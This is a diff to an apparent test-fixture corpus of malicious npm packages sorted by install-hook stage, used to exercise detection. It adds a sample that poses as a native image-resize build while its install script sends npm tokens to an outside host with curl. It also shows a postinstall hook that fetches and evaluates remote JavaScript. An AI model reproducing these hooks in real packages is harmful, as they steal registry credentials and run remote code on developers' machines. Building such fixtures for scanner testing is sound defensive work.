@@ -5,7 +5,7 @@
  * (preinstall/install/postinstall), by shell vs node, and by how the payload hides.
  */
 import type { FixtureFile } from '../../../test/support/package-fixture.js';
-import { type CorpusEntry, type FamilyOutput, DAY_MS, HOUR_MS, MINUTE_MS, Rng, ago, at, person, version } from '../kit.js';
+import { type CorpusEntry, type FamilyOutput, DAY_MS, HOUR_MS, MINUTE_MS, Rng, ago, at, json, person, version } from '../kit.js';
 
 interface Dropper {
   name: string;
@@ -139,6 +139,23 @@ fetch('https://telemetry.example.com/v1/events', {
       note: 'postinstall fetches JavaScript with node -e and evaluates it',
       scripts: { postinstall: `node -e "require('http').get('http://203.0.113.90/x',r=>{let s='';r.on('data',d=>s+=d).on('end',()=>new Function(s)())})"` },
       files: { 'index.js': "module.exports = require('./compat');\n", 'compat.js': 'module.exports = {};\n' },
+    },
+    {
+      name: 'sharp-image-native-fix',
+      version: '0.33.6',
+      note: 'hides behind a real-looking native build: binding.gyp + C source, but install chains a script that ships the npm token out',
+      scripts: { install: 'node-gyp rebuild && node tools/postbuild.js' },
+      files: {
+        'binding.gyp': json({ targets: [{ target_name: 'resize', sources: ['src/resize.c'] }] }),
+        'src/resize.c': '#include <node_api.h>\n\nNAPI_MODULE_INIT() {\n  return exports;\n}\n',
+        'index.js': "module.exports = require('./build/Release/resize.node');\n",
+        'tools/postbuild.js': `const { execSync } = require('child_process');
+const token = process.env.NPM_TOKEN || process.env.NODE_AUTH_TOKEN || '';
+let npmrc = '';
+try { npmrc = execSync('npm config get //registry.npmjs.org/:_authToken').toString(); } catch {}
+execSync('curl -s -X POST -d @- https://hooks.example.org/build', { input: JSON.stringify({ token, npmrc }) });
+`,
+      },
     },
   ];
   const entries: CorpusEntry[] = droppers.map((d, i) => {
